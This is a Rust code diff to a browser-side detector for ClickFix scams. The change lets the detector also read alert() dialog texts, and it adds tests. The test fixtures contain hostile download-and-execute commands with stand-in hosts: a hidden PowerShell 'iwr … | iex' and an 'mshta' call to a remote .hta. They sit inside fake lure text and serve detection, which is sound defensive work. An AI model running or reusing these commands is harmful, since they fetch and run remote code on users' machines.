@@ -1320,40 +1320,59 @@ pub fn assess(clipboard: &str, page: &PageHits) -> Option<ClickFix> {
 /// texts. The page text is only normalised again when the copied text is a command.
 pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
     if let Some(command) = recognise(&snap.clipboard.text) {
-        return assess_command(command, &page_of(snap, &snap.text, &snap.alt_texts), false);
+        let found = assess_command(
+            command.clone(),
+            &page_of(snap, &snap.text, &snap.alt_texts, &[]),
+            false,
+        );
+        if found.is_some() || snap.dialog_texts.iter().all(|t| t.trim().is_empty()) {
+            return found;
+        }
+        // Some kits give the Win+R steps only in an `alert()`. Dialog texts come from the MAIN
+        // world, which the page can forge, so they may only add: they are read when the page
+        // alone did not make the copy ClickFix, never to take a verdict away.
+        let with = page_of(snap, &snap.text, &snap.alt_texts, &snap.dialog_texts);
+        return assess_command(command, &with, false);
     }
-    // No command copied: a kit may show its command to be typed or pasted by hand. Only a
-    // shape no docs give, with run-dialog or Terminal steps and a story (a human check, a fix,
-    // an update), on a page that does not talk about scams.
-    let (line, command) = typed_lines(&snap.text)
+    // No command copied: a kit may show its command to be typed or pasted by hand, on the page
+    // or (forged or not, it can only add) in an `alert()`.
+    typed(snap, &snap.text).or_else(|| snap.dialog_texts.iter().find_map(|d| typed(snap, d)))
+}
+
+/// A command shown in `text` to be typed by hand. Only a shape no docs give, with run-dialog
+/// or Terminal steps and a story (a human check, a fix, an update), on a page that does not
+/// talk about scams.
+fn typed(snap: &Snapshot, text: &str) -> Option<ClickFix> {
+    let (line, command) = typed_lines(text)
         .into_iter()
         .filter_map(|l| Some((l, recognise(l)?)))
         .find(|(_, c)| c.strong())?;
     // The steps and the story stand around the command: the page is read from 3 KB before it to
     // 1.5 KB after it (with its title), not whole a second time (a 64 KB docs page showing an
     // `iex` doubled the engine's time).
-    let at = line.as_ptr() as usize - snap.text.as_ptr() as usize;
+    let at = line.as_ptr() as usize - text.as_ptr() as usize;
     let (mut from, mut to) = (
         at.saturating_sub(TYPED_BEFORE),
         (at + line.len() + TYPED_AFTER),
     );
-    to = to.min(snap.text.len());
-    while !snap.text.is_char_boundary(from) {
+    to = to.min(text.len());
+    while !text.is_char_boundary(from) {
         from -= 1;
     }
-    while !snap.text.is_char_boundary(to) {
+    while !text.is_char_boundary(to) {
         to += 1;
     }
-    let near = page_of(snap, &snap.text[from..to], &[]);
+    let near = page_of(snap, &text[from..to], &[], &[]);
     assess_command(command, &near, true)
 }
 
-/// The page's title, text and alt texts, read for ClickFix (one copy in the Wasm).
+/// The page's title, text, alt texts and (when asked) dialog texts, read for ClickFix (one copy
+/// in the Wasm).
 #[inline(never)]
-fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String]) -> PageHits {
+fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]) -> PageHits {
     let parts = [snap.title.as_str(), text]
         .into_iter()
-        .chain(alt_texts.iter().map(String::as_str));
+        .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
     PageHits::new(parts).on(&snap.url)
 }
 
@@ -3082,5 +3101,46 @@ mod tests {
             ),
             Kind::Clickfix
         );
+    }
+
+    #[test]
+    fn steps_given_only_in_a_dialog_count() {
+        use crate::snapshot::Clipboard;
+        use crate::verdict::Options;
+        let snap = |dialogs: &[&str]| Snapshot {
+            url: "https://files-share.example/doc".into(),
+            title: "Document".into(),
+            text: "Loading the document. Please wait.".into(),
+            clipboard: Clipboard {
+                text: "powershell -w hidden -c \"iwr https://cdn.example/a.ps1 | iex\"".into(),
+                via: "execCommand".into(),
+            },
+            dialog_texts: dialogs.iter().map(|d| d.to_string()).collect(),
+            ..Default::default()
+        };
+        let judge = |s: &Snapshot| crate::engine::analyse(s, &Options::default());
+        // The page alone: a command copy with no steps stays silent.
+        assert_ne!(judge(&snap(&[])).kind, Kind::Clickfix);
+        // The steps in an alert() make it ClickFix.
+        let v = judge(&snap(&[
+            "To open the document: press Windows key + R, then Ctrl+V, then Enter.",
+        ]));
+        assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
+        // A dialog that talks about scams does not take a page's ClickFix verdict away.
+        let page = Snapshot {
+            text: CAPTCHA.into(),
+            ..snap(&["Beware of scams: never paste commands a web page gives you."])
+        };
+        assert_eq!(judge(&page).kind, Kind::Clickfix);
+        // Nothing copied: the command and its steps shown in an alert() to be typed by hand.
+        let typed = Snapshot {
+            clipboard: Clipboard::default(),
+            ..snap(&[
+                "Your document is protected. Verify you are human: press Win+R, type \
+                 mshta https://cdn.example/verify.hta and press Enter.",
+            ])
+        };
+        let v = judge(&typed);
+        assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
     }
 }
